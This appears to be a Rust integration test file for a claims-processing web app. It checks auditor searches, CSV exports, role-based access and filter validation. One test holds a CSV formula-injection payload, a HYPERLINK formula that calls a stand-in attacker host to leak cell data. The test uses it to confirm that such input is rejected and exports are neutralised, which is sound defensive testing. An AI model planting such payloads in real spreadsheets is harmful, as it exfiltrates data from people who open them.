//! The browser interface's lists over HTTP, on both backends: the auditor's searches over
//! claims by their own fields and over the audit trail across cases, the CSV export of every
//! list (queue, facilities, the team board's three lists and the auditor's four) with the
//! page's filters, the queue's due-date filter, filter errors named next to their fields,
//! and who may read which list.
use crate::common::TestApp;
use claimflow::domain::person::IdNumber;
use claimflow::domain::roles::Role;
use serde_json::json;
use std::collections::BTreeSet;

crate::trials!(web_lists {
    scenarios: [
        auditor_searches_claims_by_their_own_fields,
        auditor_searches_the_trail_across_cases,
        filters_and_exports_refuse_bad_input_by_field,
        every_list_exports_only_to_its_roles,
        queue_facility_and_team_lists_export_what_the_pages_show,
        exports_never_carry_a_live_formula
    ],
});

/// A page or export as the browser gets it with this session: status, content type, body.
async fn fetch(app: &TestApp, token: &str, path: &str) -> (u16, String, String) {
    fetch_in(app, token, path, "zh-CN").await
}

async fn fetch_in(app: &TestApp, token: &str, path: &str, lang: &str) -> (u16, String, String) {
    app.fetch(token, path, lang).await
}

/// A CSV export's rows as maps from column to value; the export must be a CSV with the
/// byte-order mark spreadsheet programs need.
async fn csv_rows(
    app: &TestApp,
    token: &str,
    path: &str,
) -> Vec<std::collections::HashMap<String, String>> {
    let (status, kind, body) = fetch(app, token, path).await;
    assert_eq!(status, 200, "{path}: {body}");
    assert!(kind.starts_with("text/csv"), "{path}: {kind}");
    let body = body
        .strip_prefix('\u{feff}')
        .unwrap_or_else(|| panic!("{path}: no byte-order mark"));
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            header
                .iter()
                .cloned()
                .zip(r.iter().map(str::to_string))
                .collect()
        })
        .collect()
}

fn column(rows: &[std::collections::HashMap<String, String>], name: &str) -> BTreeSet<String> {
    rows.iter().map(|r| r[name].clone()).collect()
}

/// HTML as a browser reads its attributes: entities decoded.
fn unescape(html: &str) -> String {
    html.replace("&#x3D;", "=")
        .replace("&#x60;", "`")
        .replace("&amp;", "&")
}

/// The href of a page's CSV export link, as the browser follows it.
fn export_link(html: &str) -> String {
    let html = unescape(html);
    let at = html
        .find("class=\"export\" href=\"")
        .expect("an export link")
        + 21;
    html[at..at + html[at..].find('"').unwrap()].to_string()
}

/// The field errors a page shows, by the id of the field they describe.
fn field_errors(html: &str) -> Vec<String> {
    html.match_indices("class=\"field-error\" id=\"")
        .map(|(i, m)| {
            let rest = &html[i + m.len()..];
            rest[..rest.find('"').unwrap()].to_string()
        })
        .collect()
}

async fn auditor_searches_claims_by_their_own_fields(app: TestApp) {
    let auditor = app.login("auditor").await;
    let all = csv_rows(&app, &auditor, "/audit/claims.csv").await;
    assert!(all.len() >= 20, "the demo's claims: {}", all.len());
    // One invoice number finds exactly the claim that carries it.
    let one = csv_rows(&app, &auditor, "/audit/claims.csv?invoice=DEMO-trauma-0003").await;
    assert_eq!(one.len(), 1, "{one:?}");
    assert_eq!(one[0]["invoices"], "DEMO-trauma-0003");
    assert_eq!(one[0]["family"], "trauma");
    // The resident by full ID number and by part of the name; the list shows the number masked.
    let id_number = IdNumber::with_check_digit("33032619800505001");
    let by_number = csv_rows(
        &app,
        &auditor,
        &format!("/audit/claims.csv?resident={id_number}"),
    )
    .await;
    let by_name = csv_rows(&app, &auditor, "/audit/claims.csv?resident=%E5%BC%A0").await;
    let zhang_wei = all.iter().filter(|r| r["resident"] == "张伟").count();
    assert!(
        zhang_wei > 0 && zhang_wei < all.len(),
        "the demo also files for 王磊"
    );
    assert_eq!(by_number.len(), zhang_wei);
    assert_eq!(column(&by_number, "claim_id"), column(&by_name, "claim_id"));
    assert!(by_name.iter().all(|r| r["resident"] == "张伟"
        && !r["id_number_masked"].contains("19800505")
        && !r["id_number_masked"].is_empty()));
    assert!(
        csv_rows(&app, &auditor, "/audit/claims.csv?resident=%E6%9D%8E")
            .await
            .is_empty()
    );
    // A LIKE wildcard typed in is a character, not "anything".
    assert!(csv_rows(&app, &auditor, "/audit/claims.csv?resident=%25")
        .await
        .is_empty());
    // Facility and family narrow together.
    let trauma_here = csv_rows(
        &app,
        &auditor,
        "/audit/claims.csv?family=trauma&facility=H330326010",
    )
    .await;
    assert!(!trauma_here.is_empty());
    assert!(trauma_here
        .iter()
        .all(|r| r["family"] == "trauma" && r["facility"] == "H330326010"));
    assert!(trauma_here.len() < all.len());
    // The page lists the same claims, 50 at most, each linked to its case.
    let (status, _, html) = fetch(&app, &auditor, "/audit/claims?invoice=DEMO-trauma-0003").await;
    assert_eq!(status, 200);
    let case_id = &one[0]["case_id"];
    assert!(
        html.contains(&format!("href=\"/cases/{case_id}\"")),
        "{html}"
    );
    assert!(html.contains("DEMO-trauma-0003") && !html.contains('⟦'));
    // The page's export link returns what the page found.
    let link = export_link(&html);
    assert_eq!(csv_rows(&app, &auditor, &link).await.len(), 1, "{link}");
    assert!(html.contains("发票号码"), "Chinese by default");
    let (_, _, english) = fetch_in(
        &app,
        &auditor,
        "/audit/claims?invoice=DEMO-trauma-0003",
        "en",
    )
    .await;
    assert!(english.contains("Invoice number") && english.contains("DEMO-trauma-0003"));
    assert!(!english.contains('⟦'));

    // An auditor of another province sees none of these claims, events or cases.
    app.add_user("auditor_sh", &[Role::Auditor], "310000");
    let elsewhere = app.login("auditor_sh").await;
    assert!(csv_rows(&app, &elsewhere, "/audit/claims.csv")
        .await
        .is_empty());
    assert!(csv_rows(&app, &elsewhere, "/audit/events.csv")
        .await
        .is_empty());
    assert!(csv_rows(&app, &elsewhere, "/audit/cases.csv")
        .await
        .is_empty());
}

async fn auditor_searches_the_trail_across_cases(app: TestApp) {
    let auditor = app.login("auditor").await;
    let all = csv_rows(&app, &auditor, "/audit/events.csv").await;
    let cases = column(&all, "case_id");
    assert!(cases.len() >= 20, "events of the demo's cases");
    // By username and by part of the display name (刘洋（初审）): the same events, all the
    // reviewer's, across several cases.
    let by_username = csv_rows(&app, &auditor, "/audit/events.csv?actor=reviewer").await;
    let by_name = csv_rows(&app, &auditor, "/audit/events.csv?actor=%E5%88%98%E6%B4%8B").await;
    assert!(!by_username.is_empty());
    assert_eq!(
        column(&by_username, "event_id"),
        column(&by_name, "event_id")
    );
    assert!(by_username.iter().all(|r| r["actor"] == "reviewer"));
    assert!(column(&by_username, "case_id").len() > 1);
    // Role and action narrow; the action filter is exact.
    let approvals = csv_rows(
        &app,
        &auditor,
        "/audit/events.csv?role=senior_reviewer&action=approve",
    )
    .await;
    assert!(!approvals.is_empty());
    assert!(approvals
        .iter()
        .all(|r| r["role"] == "senior_reviewer" && r["action"] == "approve"));
    assert!(csv_rows(&app, &auditor, "/audit/events.csv?action=appro")
        .await
        .is_empty());
    // One case's events chain: each event's prev_hash is the hash before it.
    let case = cases.iter().next().unwrap();
    let mut chain = csv_rows(&app, &auditor, &format!("/audit/events.csv?case_id={case}")).await;
    chain.sort_by_key(|r| r["seq"].parse::<i64>().unwrap());
    assert_eq!(chain[0]["seq"], "1");
    for pair in chain.windows(2) {
        assert_eq!(pair[1]["prev_hash"], pair[0]["hash"]);
    }
    // Days: nothing before the demo was seeded, everything up to tomorrow.
    assert!(csv_rows(&app, &auditor, "/audit/events.csv?to=2020-01-01")
        .await
        .is_empty());
    assert_eq!(
        csv_rows(&app, &auditor, "/audit/events.csv?from=2020-01-01")
            .await
            .len(),
        all.len()
    );
    // The page: newest first, 50 a page, and a link to the next page that carries the filters.
    let (status, _, html) = fetch(&app, &auditor, "/audit/events?role=resident").await;
    assert_eq!(status, 200);
    assert_eq!(html.matches("<tr>").count(), 51, "header and 50 events");
    assert!(html.contains("/audit/events?before="), "{html}");
    assert!(unescape(&html).contains("&role=resident"));
}

async fn filters_and_exports_refuse_bad_input_by_field(app: TestApp) {
    let auditor = app.login("auditor").await;
    let reviewer = app.login("reviewer").await;
    // Every wrong field is named next to itself at once, with a 422 and no rows.
    for (token, path, fields) in [
        (
            &auditor,
            "/audit/claims?claim_id=12x&from=2026-13-01&family=dental",
            vec!["claim_id-error", "family-error", "from-error"],
        ),
        (
            &auditor,
            "/audit/events?role=wizard&to=tomorrow",
            vec!["role-error", "to-error"],
        ),
        (&auditor, "/audit?state=gone", vec!["state-error"]),
        (
            &reviewer,
            "/queue?min=abc&sla=late&due_before=2026-02-30",
            vec!["min-error", "sla-error", "due_before-error"],
        ),
    ] {
        let (status, _, html) = fetch(&app, token, path).await;
        assert_eq!(status, 422, "{path}");
        let mut shown = field_errors(&html);
        shown.sort();
        let mut expected: Vec<String> = fields.iter().map(|f| f.to_string()).collect();
        expected.sort();
        assert_eq!(shown, expected, "{path}");
        assert!(!html.contains("<td>"), "{path} lists no rows");
    }
    // A tampered page cursor is named too, above the list.
    for path in [
        "/audit?before=x",
        "/audit/claims?before=x",
        "/audit/events?before=x",
    ] {
        let (status, _, html) = fetch(&app, &auditor, path).await;
        assert_eq!(status, 422, "{path}");
        assert!(
            html.contains("role=\"alert\">") && unescape(&html).contains("收到的是“x”"),
            "{path}: {html}"
        );
    }
    // An export with a bad filter is refused with the field in the message, not an empty file.
    for (token, path, field) in [
        (&auditor, "/audit/claims.csv?to=31/12/2026", "to"),
        (&auditor, "/audit/events.csv?case_id=abc", "case_id"),
        (&reviewer, "/queue.csv?max=lots", "max"),
    ] {
        let (status, kind, body) = fetch(&app, token, path).await;
        assert_eq!(status, 422, "{path}");
        assert!(kind.starts_with("text/html"), "{path}");
        assert!(body.contains(field), "{path}: {body}");
    }
    // Unknown team list.
    let supervisor = app.login("supervisor").await;
    assert_eq!(fetch(&app, &supervisor, "/team/everyone.csv").await.0, 404);
}

async fn every_list_exports_only_to_its_roles(app: TestApp) {
    let tokens = [
        ("auditor", app.login("auditor").await),
        ("reviewer", app.login("reviewer").await),
        ("supervisor", app.login("supervisor").await),
        ("inspector", app.login("inspector").await),
        ("resident", app.login("resident").await),
    ];
    for (path, allowed) in [
        ("/queue.csv", &["reviewer", "supervisor"][..]),
        ("/facilities.csv", &["inspector", "supervisor"]),
        ("/team/workload.csv", &["supervisor"]),
        ("/team/reviewers.csv", &["supervisor"]),
        ("/team/attention.csv", &["supervisor"]),
        ("/audit/cases.csv", &["auditor"]),
        ("/audit/claims.csv", &["auditor"]),
        ("/audit/events.csv", &["auditor"]),
        ("/audit/violations.csv", &["auditor"]),
        ("/audit/claims", &["auditor"]),
        ("/audit/events", &["auditor"]),
    ] {
        for (name, t) in &tokens {
            let (status, _, _) = fetch(&app, t, path).await;
            let expected = if allowed.contains(name) { 200 } else { 403 };
            assert_eq!(status, expected, "{name} at {path}");
        }
    }
    // Signed out: to the sign-in page, and back to the export afterwards.
    let res = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
        .get(app.url("/audit/claims.csv?family=trauma"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303);
    let to = res.headers()["location"].to_str().unwrap();
    assert!(to.starts_with("/login?next=/audit/claims.csv"), "{to}");
}

async fn queue_facility_and_team_lists_export_what_the_pages_show(app: TestApp) {
    let reviewer = app.login("reviewer").await;
    // The queue export: the same cases as the queue API with the same filter, every one.
    let (_, api) = app
        .get(&reviewer, "/api/queue?family=trauma&limit=200")
        .await;
    let api_ids: BTreeSet<String> = api["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["case_id"].to_string())
        .collect();
    let rows = csv_rows(&app, &reviewer, "/queue.csv?family=trauma").await;
    assert!(!rows.is_empty());
    assert_eq!(column(&rows, "case_id"), api_ids);
    assert!(rows.iter().all(|r| r["family"] == "trauma"));
    // The due-date filter: cases due by the end of the chosen day (Beijing time).
    let everything = csv_rows(&app, &reviewer, "/queue.csv").await;
    assert!(
        csv_rows(&app, &reviewer, "/queue.csv?due_before=2020-01-01")
            .await
            .is_empty()
    );
    assert_eq!(
        csv_rows(&app, &reviewer, "/queue.csv?due_before=2099-12-31")
            .await
            .len(),
        everything.len()
    );
    let (status, _, html) = fetch(&app, &reviewer, "/queue?due_before=2020-01-01").await;
    assert_eq!(status, 200);
    assert!(
        html.contains("value=\"2020-01-01\""),
        "the filter stays filled in"
    );
    let link = export_link(&html);
    assert_eq!(
        link, "/queue.csv?x=1&due_before=2020-01-01",
        "the export carries the filter"
    );
    assert!(csv_rows(&app, &reviewer, &link).await.is_empty());

    // Facilities: every facility with its designation today.
    let inspector = app.login("inspector").await;
    let facilities = csv_rows(&app, &inspector, "/facilities.csv").await;
    assert_eq!(facilities.len(), 5, "{facilities:?}");
    assert!(facilities.iter().all(|f| f["designation"] == "designated"));
    let (status, body) = app
        .post(
            &app.login("admin").await,
            "/api/admin/facilities/H330326020/status",
            json!({"status": "suspended", "effective_from": "2026-01-01", "reason": "暂停医保结算"}),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let after = csv_rows(&app, &inspector, "/facilities.csv").await;
    let private = after.iter().find(|f| f["code"] == "H330326020").unwrap();
    assert_eq!(private["designation"], "suspended", "{after:?}");

    // The team board's lists: a case the reviewer holds is in the workload; a case past its
    // due time is in the attention list as breached.
    let supervisor = app.login("supervisor").await;
    let (status, case) = app.post(&reviewer, "/api/queue/next", json!({})).await;
    assert_eq!(status, 200, "{case}");
    let held = case["id"].as_i64().unwrap();
    let workload = csv_rows(&app, &supervisor, "/team/workload.csv").await;
    assert!(
        workload
            .iter()
            .any(|w| w["reviewer"] == "刘洋（初审）" && w["open_cases"] == "1"),
        "{workload:?}"
    );
    app.raw_sql(&format!("UPDATE cases SET due_at = 1000 WHERE id = {held}"))
        .unwrap();
    let attention = csv_rows(&app, &supervisor, "/team/attention.csv").await;
    let row = attention
        .iter()
        .find(|a| a["case_id"] == held.to_string())
        .unwrap_or_else(|| panic!("case {held} is breached: {attention:?}"));
    assert_eq!(row["sla"], "breached");
    let reviewers = csv_rows(&app, &supervisor, "/team/reviewers.csv").await;
    assert!(reviewers.iter().any(|r| r["reviewer"] == "刘洋（初审）"));
}

/// Safe exports (issue 23, item 3): an invoice number that is a spreadsheet formula is
/// refused at intake, and one already in the database (imported before the rule, or put
/// there by hand) leaves every export as literal text, never a live formula.
async fn exports_never_carry_a_live_formula(app: TestApp) {
    let resident = app.login("resident").await;
    let mut body = crate::common::trauma_claim();
    body["invoice_numbers"] = json!(["=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"]);
    let (status, res) = app.post(&resident, "/api/claims", body).await;
    assert_eq!(status, 422, "{res}");
    assert_eq!(res["fields"][0]["field"], "invoice_numbers[0]", "{res}");

    app.raw_sql(r#"UPDATE claims SET invoice_numbers = '["=HYPERLINK(1)"]' WHERE invoice_numbers = '["DEMO-trauma-0003"]'"#)
        .unwrap();
    let auditor = app.login("auditor").await;
    let rows = csv_rows(&app, &auditor, "/audit/claims.csv").await;
    assert!(
        rows.iter().any(|r| r["invoices"] == "'=HYPERLINK(1)"),
        "the planted formula is exported as text"
    );
    for row in &rows {
        for (name, cell) in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{name}: {cell:?} would run as a formula"
            );
        }
    }
}
